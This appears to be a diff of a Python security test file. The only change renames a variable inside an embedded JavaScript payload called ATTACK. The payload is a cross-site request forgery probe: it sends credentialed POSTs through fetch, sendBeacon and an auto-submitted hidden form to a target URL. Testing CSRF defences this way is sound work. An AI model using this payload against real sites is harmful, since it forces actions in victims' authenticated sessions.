@@ -68,12 +68,12 @@ def evil_page():
 
 
 ATTACK = """(async () => {
-    const [url, body] = %s, told = [];
+    const [url, body] = %s, seen = [];
     const kinds = ["text/plain", "application/json", "application/x-www-form-urlencoded"];
     for (const mode of ["no-cors", "cors"]) for (const kind of kinds) {
         const sent = { method: "POST", mode, body, credentials: "include", headers: { "Content-Type": kind } };
-        try { const reply = await fetch(url, sent); told.push(reply.type === "opaque" ? "unread" : reply.status); }
-        catch (error) { told.push(String(error.name)); }
+        try { const reply = await fetch(url, sent); seen.push(reply.type === "opaque" ? "unread" : reply.status); }
+        catch (error) { seen.push(String(error.name)); }
     }
     navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
     const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype: "text/plain" });
@@ -85,7 +85,7 @@ ATTACK = """(async () => {
     const sent = new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
     form.submit();
     await sent;
-    return told;
+    return seen;
 })()"""
 
 
